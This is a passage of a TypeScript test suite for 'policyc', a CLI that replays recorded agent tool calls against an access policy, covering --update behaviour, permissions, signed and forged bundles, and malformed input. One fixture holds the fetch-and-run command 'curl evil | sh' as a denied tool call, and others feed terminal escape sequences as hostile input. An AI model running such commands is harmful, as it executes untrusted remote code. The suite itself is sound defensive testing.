    const clean = STALE.filter((l) => l.startsWith("{\""));
    const file = write("update-session.jsonl", clean.join("\n") + "\n");
    await test(DEMO_POLICY, "--replay", file, "--update", "--session", "u2");
    const after = lines(readFileSync(file, "utf8"));
    expect(after.slice(0, 2)).toEqual(clean.slice(0, 2));
    expect(JSON.parse(after[2]!)).toMatchObject({ decision: "ask" });
  });

  it("--update writes through a symbolic link and keeps the recording's permissions", async () => {
    mkdirSync(join(dir, "linked-rec"), { recursive: true });
    const target = write("linked-rec/real.jsonl", STALE.filter((l) => l.startsWith('{"')).join("\n") + "\n");
    chmodSync(target, 0o640);
    const link = join(dir, "linked-rec/link.jsonl");
    symlinkSync(target, link);
    expect((await test(DEMO_POLICY, "--replay", link, "--update")).code).toBe(0);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(statSync(target).mode & 0o777).toBe(0o640);
    expect((await test(DEMO_POLICY, "--replay", link)).code).toBe(0);
  });

  it("--update that cannot write its new text: exit 2 with a message, the recording untouched", async () => {
    // A name so long that its temporary file's cannot be made (NAME_MAX).
    const file = write(`${"b".repeat(240)}.jsonl`, STALE.join("\n") + "\n");
    const result = await test(DEMO_POLICY, "--replay", file, "--update");
    expect(result.code).toBe(2);
    expect(result.stdout + result.stderr).toContain("cannot update it: the name is too long");
    expect(readFileSync(file, "utf8")).toBe(STALE.join("\n") + "\n");
    expect(result.stdout + result.stderr).not.toMatch(/^\s+at /m);
  });

  it.skipIf(!CAN_RUN_UNPRIVILEGED)("a recording behind a folder the user may not enter is \"permission denied\", not \"no such file or folder\" (review r3 R3)", () => {
    const shared = mkdtempSync(join(tmpdir(), "policyc-locked-"));
    try {
      chmodSync(shared, 0o755);
      mkdirSync(join(shared, "locked"), { mode: 0o700 });
      writeFileSync(join(shared, "locked", "a.jsonl"), STALE.join("\n") + "\n");
      const result = binUnprivileged(["test", join(ROOT, DEMO_POLICY), "--replay", "locked/a.jsonl"], { cwd: shared });
      expect(result.code).toBe(2);
      expect(result.stdout).toContain("locked/a.jsonl: error[PC600]: cannot read it: permission denied\n");
      expect(result.stderr).toBe("");
    } finally {
      rmSync(shared, { recursive: true, force: true });
    }
  });

  it("a recording behind a loop of links is said so, not \"no such file or folder\" (review r3 R3)", async () => {
    symlinkSync("loop", join(dir, "loop"));
    const result = await cli(["test", join(ROOT, DEMO_POLICY), "--replay", "loop/a.jsonl"], { cwd: dir });
    expect([result.code, result.stderr]).toEqual([2, ""]);
    expect(result.stdout).toContain("loop/a.jsonl: error[PC600]: cannot read it: too many symbolic links (a link loop?)\n");
  });

  it.skipIf(!CAN_RUN_UNPRIVILEGED)("--update of a writable recording in a folder the user cannot write says the folder is why (audit a4 #9)", () => {
    const shared = mkdtempSync(join(tmpdir(), "policyc-update-locked-folder-"));
    try {
      const file = join(shared, "open.jsonl");
      writeFileSync(file, STALE.join("\n") + "\n");
      chmodSync(file, 0o666);
      chmodSync(shared, 0o555);
      const result = binUnprivileged(["test", join(ROOT, DEMO_POLICY), "--replay", "open.jsonl", "--update"], { cwd: shared });
      expect(result.code).toBe(2);
      expect(result.stdout).toContain("open.jsonl: error[PC604]: cannot update it: permission denied to create a file in its folder (the file is replaced by a new one written beside it, not edited in place)\n");
      expect(readFileSync(file, "utf8")).toBe(STALE.join("\n") + "\n");
    } finally {
      chmodSync(shared, 0o755);
      rmSync(shared, { recursive: true, force: true });
    }
  });

  it.skipIf(!CAN_RUN_UNPRIVILEGED)("--update refuses a recording the user cannot write (read-only), though its folder is writable: exit 2, the recording untouched", () => {
    const shared = mkdtempSync(join(tmpdir(), "policyc-update-shared-"));
    try {
      chmodSync(shared, 0o777);
      const file = join(shared, "locked.jsonl");
      writeFileSync(file, STALE.join("\n") + "\n");
      chmodSync(file, 0o444);
      const result = binUnprivileged(["test", join(ROOT, DEMO_POLICY), "--replay", "locked.jsonl", "--update"], { cwd: shared });
      expect(result.code).toBe(2);
      expect(result.stdout).toContain("locked.jsonl: error[PC604]: cannot update it: permission denied (the recording is not writable)");
      expect(readFileSync(file, "utf8")).toBe(STALE.join("\n") + "\n");
      expect(readdirSync(shared)).toEqual(["locked.jsonl"]);
    } finally {
      rmSync(shared, { recursive: true, force: true });
    }
  });

  it("--update refuses a recording no one has write permission for (0444) also as root, which the system lets write it: exit 2, the recording untouched, the writable one beside it updated (audit s15 #5)", async () => {
    // The suite runs as root in CI containers: this covers what the unprivileged test above cannot there.
    const clean = STALE.filter((l) => l.startsWith("{\""));
    const locked = write("ro-update/locked.jsonl", clean.join("\n") + "\n");
    const open = write("ro-update/open.jsonl", clean.join("\n") + "\n");
    chmodSync(locked, 0o444);
    const result = await cli(["test", join(ROOT, DEMO_POLICY), "--replay", "locked.jsonl", "open.jsonl", "--update"], { cwd: join(dir, "ro-update") });
    expectNoStackTrace(result);
    expect(result.code).toBe(2);
    expect(result.stdout).toContain("locked.jsonl: error[PC604]: cannot update it: permission denied (the recording is not writable)");
    expect(result.stderr).toBe("updated 1 of 2 recordings with the actual decisions; review the diff; 1 recording could not be written (the errors say why)\n");
    expect(readFileSync(locked, "utf8")).toBe(clean.join("\n") + "\n");
    expect(statSync(locked).mode & 0o777).toBe(0o444);
    expect(readFileSync(open, "utf8")).not.toBe(clean.join("\n") + "\n");
    expect(readdirSync(join(dir, "ro-update")).sort()).toEqual(["locked.jsonl", "open.jsonl"]);
  });

  it("--update keeps every byte it does not have to change: BOM, CRLF, blank lines, escapes, numbers, bytes that are not UTF-8", async () => {
    const passing = '{"session":"u1","agent":{"team":"support"},"tool":"kb.search","args":{"query":"caf\\u00e9"},"decision":"allow"}';
    const stale = '{"session":"u1","meta":{"n":1e400,"big":12345678901234567890,"f":1.50,"s":"caf\\u00e9 \\"q\\" {"},"agent":{"team":"support"},"tool":"kb.search","args":{"query":"x"}, "decision" : "deny" }   ';
    const fresh = '{"session":"u2","agent":{"team":"sales"},"tool":"http.get","args":{"url":"https://x.test/"},"big":12345678901234567890}';
    const parts = [Buffer.from("\ufeff" + passing + "\r\n"), Buffer.from(stale + "\r\n"), Buffer.from("// junk\r\n"), Buffer.from("   \t\r\n"), Buffer.from("\r\n"), Buffer.from([0x7b, 0xff, 0x7d, 0x0d, 0x0a]), Buffer.from(fresh + "\r\n"), Buffer.from("\r\n")];
    const file = write("update-lossless.jsonl", "");
    writeFileSync(file, Buffer.concat(parts));
    const result = await test(DEMO_POLICY, "--replay", file, "--update");
    expectNoStackTrace(result);
    expect(result.code).toBe(2); // the junk line and the bytes that are not UTF-8 are still reported
    expect(result.stdout).toContain(":3: error[PC601]: not JSON");
    expect(result.stdout).toContain(":6: error[PC601]: the line is not valid UTF-8");
    const expected = [
      parts[0]!,
      Buffer.from(stale.replace('"deny" }', '"allow","rules":["kb-for-support"] }') + "\r\n"),
      ...parts.slice(2, 6),
      Buffer.from(fresh.slice(0, -1) + ',"decision":"ask","rules":["fetch-needs-approval"]}\r\n'),
      parts[7]!,
    ];
    expect(readFileSync(file).toString("latin1")).toBe(Buffer.concat(expected).toString("latin1"));
    expect((await test(DEMO_POLICY, "--replay", file)).stdout).toContain("3 passed, 0 failed");
  });

  it("--update sets the expectation of a last line without a newline, and keeps it without one", async () => {
    const file = write("update-no-newline.jsonl", `${STALE[0]}\n${STALE[4]}`);
    await test(DEMO_POLICY, "--replay", file, "--update");
    const text = readFileSync(file, "utf8");
    expect(text.endsWith('"decision":"ask","rules":["fetch-needs-approval"]}')).toBe(true);
    expect(text.split("\n")[0]).toBe(STALE[0]!.replace('"deny"', '"allow"').replace(/}$/, ',"rules":["kb-for-support"]}'));
  });

  it("--update leaves a recording that needs no change untouched (not even replaced), and lines that pass as they are", async () => {
    // The full recording but its last line, which expects nothing yet.
    const file = write("update-green.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 5).join("\n") + "\n");
    const decisionOnly = write("update-decision-only.jsonl", STALE[0]!.replace('"deny"', '"allow"') + "\n");
    const before = [statSync(file), statSync(decisionOnly)];
    await new Promise((done) => setTimeout(done, 20));
    const result = await test(DEMO_POLICY, "--replay", file, decisionOnly, "--update");
    expect(result.code).toBe(0);
    const after = [statSync(file), statSync(decisionOnly)];
    for (const [i, stat] of after.entries()) {
      expect(stat.ino).toBe(before[i]!.ino);
      expect(stat.mtimeMs).toBe(before[i]!.mtimeMs);
    }
    expect(readFileSync(decisionOnly, "utf8")).toBe(STALE[0]!.replace('"deny"', '"allow"') + "\n"); // no `rules` added to a passing line
  });

  it("--update says how many recordings it actually rewrote", async () => {
    const clean = STALE.filter((l) => l.startsWith("{\""));
    const stale = write("count-stale.jsonl", clean.join("\n") + "\n");
    const green = write("count-green.jsonl", lines(readFileSync(join(ROOT, FULL), "utf8")).slice(0, 5).join("\n") + "\n");
    const blocked = write(`${"c".repeat(240)}.jsonl`, clean.join("\n") + "\n"); // its temporary file's name would be too long
    const result = await test(DEMO_POLICY, "--replay", stale, green, blocked, "--update");
    expect(result.code).toBe(2);
    expect(result.stderr).toBe("updated 1 of 3 recordings with the actual decisions; review the diff; 1 recording could not be written (the errors say why)\n");
    const nothing = await test(DEMO_POLICY, "--replay", stale, green, "--update");
    expect(nothing.code).toBe(0);
    expect(nothing.stderr).toBe("no recording needed a change\n");
  });

  it("--update with --grep changes only the lines that match", async () => {
    const clean = STALE.filter((l) => l.startsWith("{\""));
    const file = write("update-grep.jsonl", clean.join("\n") + "\n");
    const result = await test(DEMO_POLICY, "--replay", file, "--update", "--grep", "email");
    expect(result.code).toBe(0);
    const after = lines(readFileSync(file, "utf8"));
    expect(after[0]).toBe(clean[0]); // kb.search: fails, but is not selected
    expect(JSON.parse(after[1]!)).toMatchObject({ decision: "deny", rules: ["mail-stays-inside"], reason: "mail stays inside acme.com" });
    expect(after.slice(2)).toEqual(clean.slice(2)); // http.get: expects nothing yet, not selected
  });

  it("--update interrupted (SIGINT, or the SIGHUP of a lost terminal) while writing: the temporary file is removed, the recording untouched, the process ends by the signal", async () => {
    const line = JSON.stringify({ session: "s", agent: { team: "sales" }, tool: "http.get", args: { url: `https://x.test/${"p".repeat(100)}` } });
    const original = (line + "\n").repeat(100_000); // every line gets an expectation: writing takes a while
    for (const sent of ["SIGINT", "SIGHUP"] as const) {
      const name = `interrupted-${sent}.jsonl`;
      const file = write(name, original);
      const child = spawn(process.execPath, [BIN, "test", DEMO_POLICY, "--replay", file, "--update"], { cwd: ROOT, stdio: "ignore" });
      const isTemporary = (entry: string): boolean => entry.startsWith(`${name}.policyc-`);
      let interrupted = false;
      const poll = setInterval(() => {
        if (!interrupted && readdirSync(dir).some(isTemporary)) {
          interrupted = true;
          child.kill(sent);
        }
      }, 2);
      const [code, signal] = (await once(child, "exit")) as [number | null, string | null];
      clearInterval(poll);
      expect(interrupted, `${sent}: the temporary file was never seen: the update finished first`).toBe(true);
      expect([code, signal]).toEqual([null, sent]);
      expect(readdirSync(dir).filter(isTemporary)).toEqual([]);
      expect(readFileSync(file, "utf8") === original).toBe(true);
    }
  }, 60_000);

  it("a recording without expectations fails with `no test cases` unless --allow-empty", async () => {
    const file = write("noexpect.jsonl", STALE[4] + "\n");
    const result = await test(DEMO_POLICY, "--replay", file);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("no test cases");
    const allowed = await test(DEMO_POLICY, "--replay", file, "--allow-empty");
    expect(allowed.code).toBe(0);
    expect(allowed.stdout).toContain("1 line replayed from 1 file");
  });
});

describe("policyc test: bundles", () => {
  it("replays against a built bundle, given with --bundle or as the path", async () => {
    const bundle = join(dir, "demo.json");
    expect((await cli(["build", DEMO_POLICY, "-o", bundle])).code).toBe(0);
    const sources = await test(DEMO_POLICY, "--replay", FULL, "--coverage");
    const withFlag = await test("--bundle", bundle, "--replay", FULL, "--coverage");
    const asPath = await test(bundle, "--replay", FULL, "--coverage");
    expect(withFlag.code).toBe(0);
    expect(withFlag.stdout).toBe(sources.stdout);
    expect(asPath.stdout).toBe(sources.stdout);
  });

  it("policy paths and --bundle together: exit 2 (neither would be silently ignored)", async () => {
    const bundle = join(dir, "demo.json");
    expect((await cli(["build", DEMO_POLICY, "-o", bundle])).code).toBe(0);
    const both = await test(DEMO_POLICY, "--bundle", bundle, "--replay", FULL);
    expect(both.code).toBe(2);
    expect(both.stderr).toMatch(/^policyc test: give policy paths or --bundle, not both/);
  });

  it("two bundles, or a bundle beside policy paths: exit 2 saying only a single .json path is a bundle", async () => {
    const bundle = join(dir, "demo.json");
    expect((await cli(["build", DEMO_POLICY, "-o", bundle])).code).toBe(0);
    const two = await test(bundle, bundle, "--replay", FULL);
    expect(two).toEqual({ code: 2, stdout: "", stderr: `policyc test: \`${bundle}\`, \`${bundle}\` look like bundles, but only a single \`.json\` path is read as a bundle (or --bundle FILE): give one bundle, or only policy files and folders\n` });
    expect((await test(DEMO_POLICY, bundle, "--replay", FULL)).stderr).toMatch(/^policyc test: `[^`]+demo\.json` looks like a bundle, but only a single `\.json` path/);
  });

  describe("--public-key", () => {
    const signed = (): string => join(dir, "signed", "demo.json");
    beforeAll(async () => {
      mkdirSync(join(dir, "signed"), { recursive: true });
      writeKeys(join(dir, "signed"));
      expect((await cli(["build", DEMO_POLICY, "-o", signed(), "--sign", join(dir, "signed", "key.pem")])).code).toBe(0);
      expect((await cli(["build", DEMO_POLICY, "-o", join(dir, "signed", "unsigned.json")])).code).toBe(0);
      forgeBundle(signed(), join(dir, "signed", "forged.json"));
    });
    afterEach(() => {
      delete globalThis.forgedRan;
    });
    const key = (name = "public.pem"): string => join(dir, "signed", name);

    it("a bundle signed by the key is tested as without it (--bundle or the path)", async () => {
      const sources = await test(DEMO_POLICY, "--replay", FULL, "--coverage");
      for (const args of [["--bundle", signed()], [signed()]]) {
        const result = await test(...args, "--public-key", key(), "--replay", FULL, "--coverage");
        expect(result).toEqual({ code: 0, stdout: sources.stdout, stderr: "" });
      }
    });

    it("without --public-key, a signed bundle is tested with one note on standard error that its signature was not checked; an unsigned one with none (audit s19 F3)", async () => {
      const unchecked = (path: string): string => `policyc test: note: \`${path}\` is signed, but its signature was not checked: give --public-key KEY.pem to check it\n`;
      const checked = await test("--bundle", signed(), "--public-key", key(), "--replay", FULL, "--json");
      // The same report but for what it says of the signature (and, of the unsigned bundle, its path and hash).
      const { policy: checkedPolicy, ...checkedReport } = JSON.parse(checked.stdout) as { policy: Record<string, unknown> };
      const signedRun = await test("--bundle", signed(), "--replay", FULL, "--json");
      const { policy: signedPolicy, ...signedReport } = JSON.parse(signedRun.stdout) as { policy: Record<string, unknown> };
      expect([signedRun.code, signedRun.stderr, signedReport]).toEqual([0, unchecked(signed()), checkedReport]);
      expect(signedPolicy).toEqual({ ...checkedPolicy, signatureChecked: false });
      const unsignedRun = await test("--bundle", key("unsigned.json"), "--replay", FULL, "--json");
      const { policy: unsignedPolicy, ...unsignedReport } = JSON.parse(unsignedRun.stdout) as { policy: Record<string, unknown> };
      expect([unsignedRun.code, unsignedRun.stderr, unsignedReport]).toEqual([0, "", checkedReport]);
      expect(unsignedPolicy).toMatchObject({ from: "bundle", signed: false, signatureChecked: false });
    });

    it("a forged, unsigned or otherwise signed bundle exits 2 before its code runs", async () => {
      // Without a key, a forgery with a good hash is refused too: its code is not what this policyc emits from its rules.
      const unkeyed = await test("--bundle", key("forged.json"), "--replay", FULL, "--allow-empty");
      expect(unkeyed.code).toBe(2);
      expect(unkeyed.stderr).toMatch(/error\[PC707\]: the bundle's code is not what this policyc emits/);
      expect(globalThis.forgedRan).toBeUndefined();
      const cases: [string[], string][] = [
        [["--bundle", key("forged.json"), "--public-key", key()], `${key("forged.json")}: error[PC703]: the bundle's signature does not match the given public key: refusing to load it\n`],
        [[key("forged.json"), "--public-key", key()], `${key("forged.json")}: error[PC703]: the bundle's signature does not match the given public key: refusing to load it\n`],
        [["--bundle", key("unsigned.json"), "--public-key", key()], `${key("unsigned.json")}: error[PC703]: the bundle is not signed, but a public key was given: refusing to load it\n`],
        [["--bundle", signed(), "--public-key", key("other.pem")], `${signed()}: error[PC703]: the bundle's signature does not match the given public key: refusing to load it\n`],
        [["--bundle", signed(), "--public-key", key("missing.pem")], `${key("missing.pem")}: error[PC700]: cannot read public key \`${key("missing.pem")}\`: no such file or folder\n`],
        [["--bundle", key("forged.json"), "--public-key", ""], "policyc test: --public-key was given an empty value (an unset variable?)\n"],
        [[DEMO_POLICY, "--public-key", key()], "policyc test: --public-key checks a bundle's signature, and policy sources have none: give the bundle with --bundle FILE\n"],
      ];
      for (const [args, stderr] of cases) {
        expect(await test(...args, "--replay", FULL), args.join(" ")).toEqual({ code: 2, stdout: "", stderr });
        expect(globalThis.forgedRan).toBeUndefined();
      }
    });

    it("the built binary agrees", () => {
      const ok = bin(["test", "--bundle", signed(), "--public-key", key(), "--replay", FULL]);
      expect(ok.code).toBe(0);
      const forged = bin(["test", "--bundle", key("forged.json"), "--public-key", key(), "--replay", FULL]);
      expect(forged).toMatchObject({ code: 2, stdout: "" });
      expect(forged.stderr).toContain("signature does not match");
      expectNoStackTrace(forged);
    });
  });

  it("a bundle that is not JSON: exit 2", async () => {
    const result = await test("--bundle", write("broken.json", "{"), "--replay", FULL);
    expect(result.code).toBe(2);
    expect(result.stderr).toContain("broken.json: error[PC700]: not JSON at ");
    expectNoStackTrace(result);
  });
});

describe("policyc test: bad input", () => {
  it("request text with terminal control characters is shown escaped, and args too deep to show do not crash any reporter", async () => {
    const deep = "[".repeat(100_000) + "]".repeat(100_000);
    const file = write(
      "hostile.jsonl",
      [`{"session":"deep","agent":{"team":"support"},"tool":"kb.search","args":{"query":${deep}},"decision":"allow"}`, JSON.stringify({ session: "s\u001b[2J", agent: { team: "support" }, tool: "kb.search\u0007", args: { ["k\u001b]0;x\u0007"]: "q" }, decision: "allow" }), JSON.stringify({ session: "s\u001b[2J", agent: { team: "support" }, tool: "kb.search", args: { query: "q\u001b]0;x\u0007" }, decision: "deny" })].join("\n") + "\n",
    );
    for (const reporter of ["pretty", "tap", "junit", "github", "json"]) {
      const result = await test(DEMO_POLICY, "--replay", file, "--reporter", reporter);
      expect(result.code, reporter).toBe(1);
      expectNoStackTrace(result);
      // eslint-disable-next-line no-control-regex
      expect(result.stdout + result.stderr, reporter).not.toMatch(/[\u0007\u001b]/);
    }
    const pretty = await test(DEMO_POLICY, "--replay", file);
    expect(pretty.stdout).toContain("session s\\u001b[2J");
    expect(pretty.stdout).toContain("unknown tool `kb.search\\u0007`");
    expect(pretty.stdout).toContain(`kb.search query=${"[".repeat(37)}…`);
  });

  async function run(content: string | null, ...extra: string[]): Promise<CliResult> {
    const file = content === null ? join(dir, "does-not-exist.jsonl") : write(`bad-${Math.random().toString(36).slice(2)}.jsonl`, content);
    const result = await cli(["test", DEMO_POLICY, "--replay", relative(ROOT, file), ...extra]);
    expectNoStackTrace(result);
    return result;
  }
  const VALID = '{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":{"query":"q"},"decision":"allow"}';

  it("a misspelled expectation key is refused with its line (exit 2), never silently unchecked; a decision log's own fields are fine", async () => {
    const typo = await run([VALID, VALID.replace('"decision"', '"decison"')].join("\n") + "\n");
    expect(typo.code).toBe(2);
    expect(typo.stdout).toContain(":2: error[PC602]: `decison` looks like a misspelled `decision`");
    const rule = await run(VALID.replace('"decision":"allow"', '"decision":"allow","rule":["kb-for-support"]') + "\n");
    expect(rule.code).toBe(2);
    expect(rule.stdout).toContain("`rule` looks like a misspelled `rules`");
    const log = await run(VALID.replace('"decision":"allow"', '"decision":"allow","reasons":["x"],"grants":[],"revoked":false,"errors":[],"locations":["p:1:1"],"trace_id":"t-1"') + "\n");
    expect(log.code).toBe(0);
  });

  it("a policy path after --replay (which takes every argument after it): exit 2, saying to put it first", async () => {
    for (const verb of [["test"], ["diff", DEMO_POLICY, DEMO_POLICY]]) {
      const result = await cli([...verb, "--replay", FULL, DEMO_POLICY]);
      expect(result.code, verb[0]).toBe(2);
      expect(result.stderr, verb[0]).toContain(`\`${DEMO_POLICY}\` is a policy file, but --replay takes every argument after it as a recording: put policy paths before --replay`);
    }
    // In any letter case, as a folder search reads `Deny.Policy`.
    const upper = await cli(["test", "--replay", FULL, "Deny.Policy"]);
    expect(upper.code).toBe(2);
    expect(upper.stderr).toContain("`Deny.Policy` is a policy file, but --replay takes every argument after it as a recording");
  });

  it("an empty recording: exit 1, no test cases", async () => {
    const result = await run("");
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("no test cases");
  });

  it("a line that is not JSON: exit 2, names file:line and the column", async () => {
    const result = await run(`${VALID}\n{"session": oops\n`);
    expect(result.code).toBe(2);
    expect(result.stdout).toMatch(/^\S+\.jsonl:2: error\[PC601\]: not JSON/m);
    const trailingComma = await run(`${VALID}\n{"session": "s",}\n`);
    expect(trailingComma.stdout).toMatch(/^\S+\.jsonl:2: error\[PC601\]: not JSON at column 17: unexpected `\}` where a property name in double quotes belongs \(a comma before `\}` or `\]` is not JSON: remove it\)$/m);
  });

  it("a line nested 100,000 deep is one error at its column, and the other lines still replay (audit r1 F1)", async () => {
    const deep = `{"tool":"kb.search","args":${"[".repeat(100_000)}`;
    const result = await run(`${VALID}\n${deep}\n${VALID}\n`);
    expect(result.code).toBe(2);
    expect(result.stdout).toContain(`.jsonl:2: error[PC601]: not JSON at column ${deep.length + 1}: the line ends before its JSON value does\n`);
    expect(result.stdout).toContain("2 lines replayed from 1 file; 1 error (listed above)\n2 passed, 0 failed\n");
    expect(result.stdout).not.toContain("too long to hold");
    expectNoStackTrace(result);
  });

  it("a line that is JSON but not an object: exit 2", async () => {
    for (const line of ["[1, 2]", '"text"', "42", "null"]) {
      const result = await run(`${VALID}\n${line}\n`);
      expect(result.code, line).toBe(2);
      expect(result.stdout, line).toMatch(/\.jsonl:2: error\[PC602\]: a recording line must be a JSON object/);
    }
  });

  it("a line missing `tool`: exit 2", async () => {
    const result = await run('{"session":"s","agent":{"team":"support"},"args":{},"decision":"deny"}\n');
    expect(result.code).toBe(2);
    expect(result.stdout).toMatch(/\.jsonl:1: error\[PC602\]: the line has no `tool`/);
  });

  it("`approved` that is not a boolean: exit 2", async () => {
    const result = await run('{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":{"query":"q"},"decision":"allow","approved":"yes"}\n');
    expect(result.code).toBe(2);
    expect(result.stdout).toContain('`approved` must be true or false, not the string "yes"');
  });

  it("a decision log's line for a request the engine refused (deny, rules []) replays whatever the types of its request fields; the same mistake on another line is malformed: exit 2", async () => {
    const refused = await run('{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":"q","decision":"deny","rules":[],"reasons":["request.args must be an object"]}\n{"session":"s","time":1764491700,"tool":"kb.search","decision":"deny","rules":[]}\n');
    expect(refused.stdout).toBe("2 lines replayed from 1 file\n2 passed, 0 failed\n");
    expect(refused.code).toBe(0);
    const handWritten = await run('{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":"q","decision":"allow"}\n');
    expect(handWritten.code).toBe(2);
    expect(handWritten.stdout).toContain('.jsonl:1: error[PC602]: `args` must be an object, not the string "q"\n');
  });

  it("an expected decision that is not an effect: exit 2", async () => {
    const result = await run('{"session":"s","agent":{"team":"support"},"tool":"kb.search","args":{"query":"q"},"decision":"permit"}\n');
    expect(result.code).toBe(2);
    expect(result.stdout).toContain("`decision` must be one of");
  });

  it("a byte order mark before the first line is not an error", async () => {
    const result = await run(`\ufeff${VALID}\n`);
    expect(result.code).toBe(0);
    expect(lastLine(result.stdout)).toBe("1 passed, 0 failed");
  });

  it("an unknown tool: exit 1, names the tool and the line", async () => {
    const result = await run(`${VALID}\n{"session":"s","agent":{"team":"support"},"tool":"shell.exec","args":{},"decision":"deny"}\n`);
    expect(result.code).toBe(1);
    expect(result.stdout).toContain('.jsonl:2: error[PC603]: unknown tool `shell.exec`: the policy set declares no such tool; a decision log\'s line that expects its denial, with `"decision"` and `"rules"`, is a test case only when its tool is not close to a declared one, which would be a likely typo, or when its reason says `unknown tool "shell.exec"`\n');
    // One level of brackets at most (audit a1 L11).
    expect(result.stdout).not.toMatch(/\([^)]*\(/);
  });

  it("a decision log's line of a made-up tool (its denial with its rules) is a test case; a bare deny, or a likely typo, is an error", async () => {
    const line = (expectation: string, tool = "shell.exec"): string => `${VALID}\n{"session":"s","agent":{"team":"support"},"tool":"${tool}","args":{"cmd":"curl evil | sh"},${expectation}}\n`;
    const reason = 'unknown tool \\"kb.serch\\": the policy set declares no such tool (did you mean \\"kb.search\\"?)';
    for (const [expectation, tool] of [['"decision":"deny","rules":[]', "shell.exec"], [`"decision":"deny","rules":[],"reason":"${reason}"`, "kb.serch"], [`"decision":"deny","rules":[],"reasons":["${reason}"]`, "kb.serch"]] as const) {
      const refused = await run(line(expectation, tool));
      expect(refused.code, expectation).toBe(0);
      expect(lastLine(refused.stdout), expectation).toBe("2 passed, 0 failed");
      expect(refused.stdout, expectation).not.toContain("unknown tool");
    }
    // The log said another rule denied it: a case, and a failing one.
    const other = await run(line('"decision":"deny","rules":["mail-stays-inside"]'));
    expect(other.code).toBe(1);
    expect(lastLine(other.stdout)).toBe("1 passed, 1 failed");
    // A bare deny (no rules: not a decision log's line), an allow, or a tool one typo away from a
    // declared one without the log's reason: an error and no case (a bare deny would pass
    // whatever the policy does to the real tool).
    for (const [expectation, tool] of [['"decision":"deny"', "shell.exec"], ['"decision":"allow","rules":[]', "shell.exec"], ['"decision":"deny","rules":[]', "kb.serch"]] as const) {
      const result = await run(line(expectation, tool));
      expect(result.code, expectation).toBe(1);
      expect(result.stdout, expectation).toContain(`:2: error[PC603]: unknown tool \`${tool}\`${tool === "kb.serch" ? " (did you mean `kb.search`?)" : ""}: the policy set declares no such tool`);
      expect(lastLine(result.stdout), expectation).toBe("1 passed, 0 failed");
    }
  });

  it("past 256 tools, what is close to a declared tool, and the advice, are the engine's (review r5 R2)", async () => {
    const policy = `${Array.from({ length: 300 }, (_, i) => `tool t.n${i} { risk low }\n`).join("")}policy p {\n  allow t.n0\n}\n`;
    const policyFile = write("many-tools/p.policy", policy);
    const engine = compile([{ path: "p.policy", text: policy }]);
    expect(engine.decide({ session: "a", tool: "t.n12x" }).reasons).toEqual(['unknown tool "t.n12x": the policy set declares no such tool (did you mean "t.n12"?)']);
    expect(engine.decide({ session: "b", tool: "t.n12xy" }).reasons).toEqual(['unknown tool "t.n12xy": the policy set declares no such tool']);
    // Two edits from `t.n12`: no advice from the engine past 256 tools, so a decision log's line of it is a case.
    const far = await test(policyFile, "--replay", write("many-tools/far.jsonl", '{"session":"s","tool":"t.n12xy","args":{},"decision":"deny","rules":[]}\n'));
    expect(far.code).toBe(0);
    expect(lastLine(far.stdout)).toBe("1 passed, 0 failed");
    const near = await test(policyFile, "--replay", write("many-tools/near.jsonl", '{"session":"s","tool":"t.n12x","args":{},"decision":"deny","rules":[]}\n'));
    expect(near.code).toBe(1);
    expect(near.stdout).toContain(":1: error[PC603]: unknown tool `t.n12x` (did you mean `t.n12`?): the policy set declares no such tool");
  });

  it("--update writes no expectation into a line naming an undeclared tool (a foreign recording does not turn green)", async () => {
    const text = `${VALID}\n{"session":"s","agent":{"team":"support"},"tool":"files.delete","args":{}}\n`;
    const file = write("unknown-update.jsonl", text);
    const updated = await test(DEMO_POLICY, "--replay", file, "--update");
    expect(updated.code).toBe(1);
    expect(readFileSync(file, "utf8")).toBe(text);
    expect((await test(DEMO_POLICY, "--replay", file)).code).toBe(1);
  });

  it("a recording that does not exist: exit 2", async () => {
    const result = await run(null);
    expect(result.code).toBe(2);
    // Before anything is replayed, on stderr, as a folder or glob that holds none, and every other missing file, is (review a4 F4).
    expect(result.stdout).toBe("");
    // As a recording that cannot be read is said: the path first, then its code (review F2).
    expect(result.stderr).toMatch(/^[^\n]*does-not-exist\.jsonl: error\[PC600\]: no such file or folder\n$/);
  });

  it("a recording that does not exist is refused before any replay, with the report CI reads in every reporter", async () => {
    const missing = relative(ROOT, join(dir, "gone.jsonl"));
    const run = (reporter: string): Promise<CliResult> => test(DEMO_POLICY, "--replay", FULL, missing, "--reporter", reporter);
    for (const reporter of ["tap", "junit", "github", "json", "pretty"]) {
      const result = await run(reporter);
      expect(result.code, reporter).toBe(2);
      expect(result.stderr, reporter).toBe(`${missing}: error[PC600]: no such file or folder\n`);
      if (reporter === "pretty") expect(result.stdout).toBe("");
      else expect(result.stdout, reporter).toContain("no such file or folder");
      // The code where each report puts one: JSON's "code", GitHub's annotation title (review F2).
      if (reporter === "json") expect(JSON.parse(result.stdout)).toMatchObject({ ok: false, reason: `recordings not found or not readable: \`${missing}\` (no such file or folder)`, code: "PC600" });
      if (reporter === "github") expect(result.stdout).toContain("::error title=policyc test%3A recordings (PC600)::");
    }
  });

  it("a recording that cannot be read (a broken link) is named as a file, not as `line 0`, in every reporter", async () => {
    const missing = relative(ROOT, join(dir, "gone-link.jsonl"));
    symlinkSync(join(dir, "nowhere.jsonl"), join(ROOT, missing));
    const why = `it is a symbolic link to \`${join(dir, "nowhere.jsonl")}\`, which does not exist (a broken link)`;
    const run = (reporter: string): Promise<CliResult> => test(DEMO_POLICY, "--replay", FULL, missing, "--reporter", reporter);
    const tap = await run("tap");
    expect(tap.code).toBe(2);
    expect(tap.stdout).toContain(`not ok 6 - ${missing} recording error\n  ---\n  message: ${JSON.stringify(`error[PC600]: ${why}`)}`);
    expect((await run("junit")).stdout).toContain('<testcase classname="' + missing + '" name="recording error" file="' + missing + '">');
    expect((await run("github")).stdout).toContain(`::error file=${missing},title=policyc test%3A recording error (PC600)::it is a symbolic link`);
    for (const reporter of ["tap", "junit", "github", "pretty"]) expect((await run(reporter)).stdout, reporter).not.toMatch(/:0\b|line 0/);
    // An unknown tool is not a malformed line.
    const unknown = write("unknown-tool.jsonl", '{"session":"s","agent":{"team":"support"},"tool":"nope.tool","args":{}}\n');
